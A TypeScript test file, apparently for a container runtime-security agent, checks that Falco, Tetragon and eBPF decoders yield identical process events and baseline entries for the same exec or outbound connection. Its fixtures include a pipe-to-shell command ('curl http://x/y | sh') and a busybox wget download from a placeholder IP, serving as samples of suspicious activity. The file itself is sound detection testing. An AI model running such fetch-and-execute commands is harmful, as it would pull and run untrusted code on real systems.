/**
 * One activity, one entry, whatever the source (issue 15, item 4). Each activity is written down the
 * way each tool reports it: Falco's JSON output (proc.cmdline joins argv with spaces), Tetragon's
 * JSON export (`arguments` quotes an argument holding a space) and the eBPF source's bpftrace lines
 * (argv as NUL-separated bytes), and all three go through their real decoders. The process fields
 * (core/event.ts's contract) and the baseline entries (core/entry.ts) must be equal. A program reached
 * through a symlink also goes through the agent's executable resolver (agent/attribution/container-path.ts), in a
 * real directory tree standing in for the container's root.
 */
import test from 'ava';
import { rmSync } from 'node:fs';
import { createExecutableResolver } from '../../agent/attribution/container-path.js';
import { parseFalcoLine } from '../../agent/sources/falco-event.js';
import { isRejected } from '../../agent/sources/record.js';
import { parseTetragonLine } from '../../agent/sources/tetragon-event.js';
import { createEbpfDecoder, type ProcessResolver } from '../../agent/sources/ebpf/decode.js';
import { entryOf, entryId, describeEntry } from '../../core/entry.js';
import type { ActivityEvent } from '../../core/event.js';
import { parseCidr } from '../../core/ip.js';
import { testSourceContext } from '../helpers/source-context.js';
import { containerdCgroup, makeFakeProc, makeTree } from '../helpers/container-root.js';

const ctx = { node: 'node-1', source: 'test' };
const ENTRY_OPTIONS = { clusterRanges: ['10.0.0.0/8'].map(parseCidr) };
const CID = '3ad7b26ded6d4e1f8a2b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f';
const TIME = '2026-11-23T08:00:00.000000000Z';

/** What one exec looks like from the outside. */
interface Exec {
  pid: number;
  /** The path handed to execve (the invoked path). */
  path: string;
  /** The file the kernel runs (differs from `path` for a symlink). */
  resolved: string;
  argv: string[];
  /** `exe` is the path the parent was invoked by; `resolved` its file, when that differs. */
  parent: { pid: number; exe: string; resolved?: string; comm: string; argv: string[] };
  uid: number;
  /** When it ran (ms); default TIME. */
  time?: number;
}

function falcoExec(a: Exec): ActivityEvent {
  const name = a.path.slice(a.path.lastIndexOf('/') + 1);
  const record = {
    hostname: 'node-1',
    output: 'Notice a shell was spawned',
    priority: 'Notice',
    rule: 'Run shell untrusted',
    source: 'syscall',
    time: a.time === undefined ? TIME : new Date(a.time).toISOString(),
    output_fields: {
      'container.id': CID.slice(0, 12),
      'container.image.repository': 'docker.io/library/nginx',
      'evt.type': 'execve',
      // Falco: proc.cmdline is proc.name followed by the arguments joined with spaces.
      'proc.cmdline': [name, ...a.argv.slice(1)].join(' '),
      'proc.exepath': a.resolved,
      'proc.name': name,
      'proc.pid': a.pid,
      'proc.pexepath': a.parent.resolved ?? a.parent.exe,
      'proc.pname': a.parent.comm,
      'user.uid': a.uid,
      ...(a.uid === 0 ? { 'user.name': 'root' } : {}),
    },
  };
  const r = parseFalcoLine(JSON.stringify(record), ctx);
  if (isRejected(r)) throw new Error(`falco: ${r.reject} ${r.detail}`);
  return r;
}

/** Tetragon's `arguments`: argv[1..] joined by spaces, one holding a space wrapped in quotes. */
function tetragonArguments(argv: string[]): string {
  return argv
    .slice(1)
    .map((x) => (x.includes(' ') ? `"${x}"` : x))
    .join(' ');
}

function tetragonExec(a: Exec): ActivityEvent {
  const record = {
    process_exec: {
      process: {
        pid: a.pid,
        uid: a.uid,
        // bprm->filename: the path as invoked.
        binary: a.path,
        arguments: tetragonArguments(a.argv),
        pod: { namespace: 'web', name: 'nginx-1', container: { id: `containerd://${CID}`, name: 'nginx', image: { id: 'docker.io/library/nginx@sha256:aa', name: 'docker.io/library/nginx:1.25' } } },
      },
      parent: { pid: a.parent.pid, uid: 0, binary: a.parent.exe, arguments: tetragonArguments(a.parent.argv) },
    },
    node_name: 'node-1',
    time: a.time === undefined ? TIME : new Date(a.time).toISOString(),
  };
  const r = parseTetragonLine(JSON.stringify(record), ctx);
  if (isRejected(r)) throw new Error(`tetragon: ${r.reject} ${r.detail}`);
  return r;
}

const hexOf = (s: string | Buffer, pad = 0) => {
  const b = Buffer.concat([Buffer.from(s), Buffer.alloc(Math.max(0, pad - Buffer.byteLength(s)))]);
  return [...b].map((x) => `\\x${x.toString(16).padStart(2, '0')}`).join('');
};
const printf = (data: string) => JSON.stringify({ type: 'printf', data: `${data}\n` });

function ebpfDecoder(parent: Exec['parent'], time?: number) {
  const resolver: ProcessResolver = {
    owner: (_pid, _cg, leaves) => (leaves.some((l) => l.includes(CID)) ? { kind: 'container', id: CID, runtime: 'containerd', podUid: '' } : { kind: 'host' }),
    // /proc/<ppid>/exe of the live parent: the kernel's resolved file.
    exe: (pid) => (pid === parent.pid ? parent.resolved ?? parent.exe : ''),
  };
  return createEbpfDecoder({ ctx: testSourceContext(), source: 'ebpf', clock: (ns) => time ?? ns / 1e6, resolver, now: () => 0 });
}

function ebpfExec(a: Exec): ActivityEvent {
  const d = ebpfDecoder(a.parent, a.time);
  const argv = Buffer.from(`${a.argv.join('\0')}\0`);
  // sched_process_exec: the header, the cgroup, the exec'd file name (the invoked path) and argv.
  d.line(printf(`X 5000000 ${a.pid} ${a.parent.pid} ${a.uid} 77 ${argv.length} ${hexOf(a.parent.comm, 16)}`));
  d.line(printf(`C 5000000 ${a.pid} ${hexOf(`cri-containerd-${CID}.scope`, 128)}`));
  d.line(printf(`F 5000000 ${a.pid} ${hexOf(a.path, 200)}`));
  d.line(printf(`A 5000000 ${a.pid} 0 ${hexOf(argv)}`));
  const [ev] = d.take();
  if (!ev) throw new Error('ebpf: no event');
  return ev;
}

/** The fields core/event.ts promises to be the same from every source. */
function processView(ev: ActivityEvent) {
  const p = ev.process;
  return { kind: ev.kind, exe: p.exe, name: p.name, args: p.args, parentExe: p.parentExe, parentName: p.parentName, uid: p.uid };
}

const NGINX = { pid: 100, exe: '/usr/sbin/nginx', comm: 'nginx', argv: ['nginx', '-g', 'daemon off;'] };

const ACTIVITIES: [string, Exec][] = [
  ['nginx spawning /bin/sh -c "curl http://x/y | sh"', { pid: 200, path: '/bin/sh', resolved: '/bin/sh', argv: ['/bin/sh', '-c', 'curl http://x/y | sh'], parent: NGINX, uid: 0 }],
  [
    'a busybox applet run by name: busybox wget -q -O- http://203.0.113.7/p',
    { pid: 201, path: '/bin/busybox', resolved: '/bin/busybox', argv: ['busybox', 'wget', '-q', '-O-', 'http://203.0.113.7/p'], parent: { pid: 200, exe: '/bin/sh', comm: 'sh', argv: ['sh', '-c', 'busybox wget -q -O- http://203.0.113.7/p'] }, uid: 0 },
  ],
  ['a command with a quoted script and numbers: sh -c "sleep 30; exit 2"', { pid: 202, path: '/bin/sh', resolved: '/bin/sh', argv: ['sh', '-c', 'sleep 30; exit 2'], parent: NGINX, uid: 101 }],
];

for (const [what, activity] of ACTIVITIES) {
  test(`one activity, one event and one entry from Falco, Tetragon and eBPF: ${what}`, (t) => {
    const falco = falcoExec(activity);
    const tetragon = tetragonExec(activity);
    const ebpf = ebpfExec(activity);
    t.deepEqual(processView(tetragon), processView(falco), 'Tetragon = Falco');
    t.deepEqual(processView(ebpf), processView(falco), 'eBPF = Falco');
    const entries = [falco, tetragon, ebpf].map((ev) => entryOf(ev, ENTRY_OPTIONS));
    t.truthy(entries[0]);
    t.is(entryId(entries[1]!), entryId(entries[0]!), `Tetragon's entry is Falco's: ${describeEntry(entries[0]!)}`);
    t.is(entryId(entries[2]!), entryId(entries[0]!), "eBPF's entry is Falco's");
    t.is(falco.container?.id, tetragon.container?.id, 'Falco and Tetragon name the container alike (12 characters)');
  });
}

test('a busybox applet reached through its symlink (/usr/bin/wget → /bin/busybox, parent /bin/sh → /bin/busybox): the same event and entry from all three once the agent resolves the path in the container', (t) => {
  // The container's root: Alpine's busybox with its applet links, one absolute, one relative.
  const root = makeTree({ 'bin/busybox': 'ELF busybox', 'bin/sh': { link: 'busybox' }, 'usr/bin/wget': { link: '/bin/busybox' } });
  const proc = makeFakeProc([
    { pid: 203, cgroup: containerdCgroup(CID), root },
    { pid: 200, cgroup: containerdCgroup(CID), root },
  ]);
  t.teardown(() => {
    rmSync(root, { recursive: true, force: true });
    proc.cleanup();
  });
  const activity: Exec = {
    pid: 203,
    path: '/usr/bin/wget',
    resolved: '/bin/busybox',
    argv: ['wget', '-q', '-O-', 'http://203.0.113.7/p'],
    parent: { pid: 200, exe: '/bin/sh', resolved: '/bin/busybox', comm: 'sh', argv: ['sh'] },
    uid: 0,
    // After the tree was made: a link younger than the exec could not have been what it ran through.
    time: Date.now(),
  };
  const [falco, tetragon, ebpf] = [falcoExec(activity), tetragonExec(activity), ebpfExec(activity)];
  // As the sources give them: Falco resolved (proc.exepath), Tetragon's binary and eBPF's file name as invoked.
  t.is(falco.process.exe, '/bin/busybox');
  t.is(tetragon.process.exe, '/usr/bin/wget');
  t.is(ebpf.process.exe, '/usr/bin/wget');
  t.is(tetragon.process.parentExe, '/bin/sh');

  // The agent's pipeline resolves every source's events, Falco's too (an old Falco's exepath is the invoked path).
  const resolver = createExecutableResolver({ procRoot: proc.procRoot }, { now: Date.now, count: () => {} });
  for (const ev of [falco, tetragon, ebpf]) resolver.resolve([ev], ev.source);
  t.deepEqual(processView(tetragon), processView(falco), 'Tetragon = Falco');
  t.deepEqual(processView(ebpf), processView(falco), 'eBPF = Falco');
  t.like(processView(falco), { exe: '/bin/busybox', name: 'wget', parentExe: '/bin/busybox', parentName: 'sh' });
  const ids = [falco, tetragon, ebpf].map((ev) => entryId(entryOf(ev, ENTRY_OPTIONS)!));
  t.is(ids[1], ids[0], `Tetragon's entry is Falco's: ${describeEntry(entryOf(falco, ENTRY_OPTIONS)!)}`);
  t.is(ids[2], ids[0], "eBPF's entry is Falco's");
  t.is(describeEntry(entryOf(falco, ENTRY_OPTIONS)!), '/bin/busybox (wget) -q -O- http://<ip>/p (parent busybox, root)');
});

test('one connection, one entry from Falco (fd.name), Tetragon (process_connect and the tcp_connect kprobe) and eBPF', (t) => {
  const falcoLine = JSON.stringify({
    output: 'Notice outbound connection',
    priority: 'Notice',
    rule: 'Outbound connection',
    source: 'syscall',
    time: TIME,
    output_fields: { 'container.id': CID.slice(0, 12), 'container.image.repository': 'docker.io/library/nginx', 'evt.type': 'connect', 'fd.name': '10.1.2.3:40000->203.0.113.7:80', 'fd.l4proto': 'tcp', 'proc.cmdline': 'curl http://x/y', 'proc.exepath': '/usr/bin/curl', 'proc.name': 'curl', 'proc.pname': 'sh', 'user.uid': 0 },
  });
  const process = { pid: 300, uid: 0, binary: '/usr/bin/curl', arguments: 'http://x/y', pod: { namespace: 'web', name: 'nginx-1', container: { id: `containerd://${CID}`, image: { name: 'docker.io/library/nginx:1.25' } } } };
  const tetragonConnect = JSON.stringify({ process_connect: { process, parent: { binary: '/bin/sh' }, source_ip: '10.1.2.3', source_port: 40000, destination_ip: '203.0.113.7', destination_port: 80, protocol: 'TCP' }, time: TIME });
  const tetragonKprobe = JSON.stringify({
    process_kprobe: { process, parent: { binary: '/bin/sh' }, function_name: 'tcp_connect', args: [{ sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: '10.1.2.3', daddr: '203.0.113.7', sport: 40000, dport: 80 } }] },
    time: TIME,
  });
  const d = ebpfDecoder(NGINX);
  const leaves = `${hexOf('curl', 16)} ${hexOf(`cri-containerd-${CID}.scope`, 128)}`;
  d.line(printf(`N 1000000 300 0 9 connect tcp ${hexOf(Buffer.from([10, 1, 2, 3]))} 40000 ${hexOf(Buffer.from([203, 0, 113, 7]))} 80 ${leaves}`));
  const events: ActivityEvent[] = [];
  for (const r of [parseFalcoLine(falcoLine, ctx), parseTetragonLine(tetragonConnect, ctx), parseTetragonLine(tetragonKprobe, ctx)]) {
    if (isRejected(r)) return t.fail(`${r.reject} ${r.detail}`);
    events.push(r);
  }
  events.push(...d.take());
  t.is(events.length, 4);
  const views = events.map((e) => ({ kind: e.kind, protocol: e.network?.protocol, remote: `${e.network?.remoteAddress}:${e.network?.remotePort}`, entry: entryId(entryOf(e, ENTRY_OPTIONS)!) }));
  for (const v of views.slice(1)) t.deepEqual(v, views[0]);
  t.is(describeEntry(entryOf(events[0]!, ENTRY_OPTIONS)!), 'egress tcp 203.0.113.7:80');
});
